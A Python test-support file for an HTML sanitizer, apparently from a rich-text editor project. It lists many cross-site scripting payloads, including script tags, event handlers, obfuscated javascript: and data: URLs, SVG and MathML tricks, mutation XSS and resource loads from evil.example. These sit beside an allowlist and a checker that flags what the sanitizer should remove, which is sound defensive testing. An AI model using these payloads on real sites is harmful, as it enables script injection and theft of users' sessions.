"""Hostile rich text, and what the sanitizer's allowlist lets through."""

from html.parser import HTMLParser

# Each vector carries something that runs script, loads a foreign resource or
# styles the page if a sanitizer lets it through.
XSS_VECTORS = [
    # script tags in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script/xss src="//evil.example/x.js"></script>',
    "<script>alert(1)",
    "<p>Text<script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<p><!--<script>alert(1)//--></p>",
    # event handlers on allowed and disallowed tags
    '<p onclick="alert(1)">Text</p>',
    "<strong onmouseover=alert(1)>Text</strong>",
    '<a href="https://example.org" onfocus="alert(1)" autofocus>Text</a>',
    "<ol type=1 start=2 onclick=alert(1)><li>Text</li></ol>",
    "<table><tr><td colspan=2 onmouseover=alert(1)>Text</td></tr></table>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # script URLs, plain and obfuscated
    '<a href="javascript:alert(1)">Text</a>',
    '<a href="JaVaScRiPt:alert(1)">Text</a>',
    "<a href=javascript:alert(1)>Text</a>",
    '<a href="  javascript:alert(1)">Text</a>',
    '<a href="jav&#x09;ascript:alert(1)">Text</a>',
    '<a href="jav\tascript:alert(1)">Text</a>',
    '<a href="java\nscript:alert(1)">Text</a>',
    '<a href="\x01javascript:alert(1)">Text</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Text</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">Text</a>',
    '<a href="javascript&colon;alert(1)">Text</a>',
    '<a href="vbscript:msgbox(1)">Text</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Text</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">Text</a>',
    '<a href="#" xlink:href="javascript:alert(1)">Text</a>',
    '<blockquote cite="javascript:alert(1)">Text</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>Text</td></tr></table>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>Text</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">Text</math>',
    # embedding and navigation
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>Text</button></form>',
    '<button formaction="javascript:alert(1)">Text</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width:expression(alert(1))">Text</p>',
    '<p style="background:url(javascript:alert(1))">Text</p>',
    '<a href="https://example.org" style="color:red">Text</a>',
    # mutation XSS and parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="x><script>alert(1)</script>">Text</p>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<isindex action=javascript:alert(1) type=submit>",
]


MORE_VECTORS = [
    # SVG: animation, references, foreign content
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />"
    "<a id=x><text x=20 y=20>Text</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
    '<image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
    "</foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><script href="data:,alert(1)" /></svg>',
    "<svg/onload=alert(1)//",
    '<svg><image href="javascript:alert(1)"></image></svg>',
    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    # MathML
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">Text'
    "</maction></math>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">Text</mi></math>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><mtext><h1><a href="javascript:alert(1)">Text</a></h1></mtext></math>',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    # data: URLs in every attribute that loads or navigates
    '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">Text</a>',
    '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">Text</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<a href="  data:text/html,<script>alert(1)</script>">Text</a>',
    # CSS: expressions, bindings, imports, overlays
    '<div style="background-image: url(javascript:alert(1))">Text</div>',
    '<p style="behavior: url(xss.htc)">Text</p>',
    '<p style="-moz-binding: url(https://evil.example/xss.xml#xss)">Text</p>',
    '<p style="x:expr/**/ession(alert(1))">Text</p>',
    '<p style="background:url(&quot;javascript:alert(1)&quot;)">Text</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>p{background:url("https://evil.example/track.png")}</style>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</p>',
    # mutation XSS: markup that changes meaning when parsed twice
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></table>'
    "</mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<a href="https://example.org" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">Text</a>',
    "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    '<select><template><style><!--</style><a rel="--></style></template></select>'
    '<img src=x onerror=alert(1)>">',
    "<ol><li><a href='https://example.org'>x</a></li></ol></li></ol><img src=x onerror=alert(1)>",
    # more handlers and obfuscated schemes
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>Text</marquee>",
    "<audio src=x onerror=alert(1)>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<frameset onload=alert(1)>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">Text</a>',
    '<a href="jav&#x0A;ascript:alert(1)">Text</a>',
    '<a href=" &#14;  javascript:alert(1)">Text</a>',
    '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    # tracking, tab-nabbing and DOM clobbering of the page's own ids and names
    '<img src="https://evil.example/pixel.gif">',
    '<a href="https://example.org" target="_blank">Text</a>',
    '<a href="https://example.org" ping="https://evil.example/ping">Text</a>',
    '<a id="inhalt" href="https://evil.example/">Text</a>',
    '<form id="share" name="location"><input name="href" value="https://evil.example/"></form>',
    '<p data-django-prose-editor-default=\'{"types":["script"]}\'>Text</p>',
]


VECTORS = XSS_VECTORS + MORE_VECTORS


ALLOWED_TAGS = {
    "a",
    "blockquote",
    "br",
    "em",
    "h2",
    "h3",
    "h4",
    "li",
    "ol",
    "p",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}


GLOBAL_ATTRIBUTES = {"title", "lang"}


ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel"},
    "ol": {"start", "type", "data-type"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}


SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")


class Markup(HTMLParser):
    """Collect start tags with attributes and text, optionally only inside <div class="prose">."""

    def __init__(self, html, only_prose=False):
        super().__init__(convert_charrefs=True)
        self.only_prose = only_prose
        self.prose_depth = 0
        self.prose_found = False
        self.elements = []
        self.text = []
        self.feed(html)
        self.close()

    @property
    def inside(self):
        return not self.only_prose or self.prose_depth > 0

    def handle_starttag(self, tag, attrs):
        if self.only_prose and tag == "div":
            if self.prose_depth:
                self.prose_depth += 1
            elif "prose" in (dict(attrs).get("class") or "").split():
                self.prose_depth = 1
                self.prose_found = True
                return
        if self.inside:
            self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        if self.inside:
            self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if self.only_prose and tag == "div" and self.prose_depth:
            self.prose_depth -= 1

    def handle_data(self, data):
        if self.inside:
            self.text.append(data)

    @property
    def tags(self):
        return [tag for tag, _ in self.elements]


def script_url(value):
    """Return True if a browser would read the value as a script or data URL."""
    # Browsers drop ASCII whitespace and control characters before the scheme.
    squeezed = "".join(ch for ch in (value or "") if ord(ch) > 0x20).lower()
    return squeezed.startswith(SCRIPT_SCHEMES)


def offences(elements):
    """Return every tag, attribute and URL that the allowlist should have removed."""
    found = []
    for tag, attrs in elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()) | GLOBAL_ATTRIBUTES:
                found.append(f"<{tag} {name}>")
            if script_url(value):
                found.append(f"<{tag} {name}={value!r}>")
    return found
